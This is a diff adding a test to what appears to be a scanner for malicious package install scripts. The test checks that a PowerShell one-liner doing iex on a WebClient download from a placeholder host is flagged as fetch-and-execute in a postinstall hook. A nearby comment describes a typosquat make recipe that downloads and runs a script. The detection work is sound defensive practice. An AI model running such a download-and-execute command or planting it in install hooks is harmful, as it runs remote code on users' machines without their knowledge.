@@ -299,6 +299,13 @@ def test_a_script_decrypted_and_piped_to_a_shell_is_critical():
         assert "install-script/decrypt-and-run" not in rules(artifact({"install": quiet}))
 
 
+def test_iex_of_a_webclient_download_string_is_fetch_and_execute():
+    command = "powershell -NoP -C \"$w=New-Object Net.WebClient;iex $w.DownloadString('https://dl.example/s.ps1')\""
+    assert "install-script/fetch-and-execute" in {f.rule for f in judge_command(command, "postinstall", "package.json", 1, "x")}
+    saved = "powershell -NoP -C \"$w=New-Object Net.WebClient;$w.DownloadFile('https://dl.example/s.zip', 's.zip')\""
+    assert "install-script/fetch-and-execute" not in {f.rule for f in judge_command(saved, "postinstall", "package.json", 1, "x")}
+
+
 def test_makefile_a_hook_runs_is_judged_by_its_recipes():
     # blind set 43's typosquat: `make -f scripts/build.mk setup` whose recipe downloads a script to a temp file named by
     # a make variable and runs it in the background
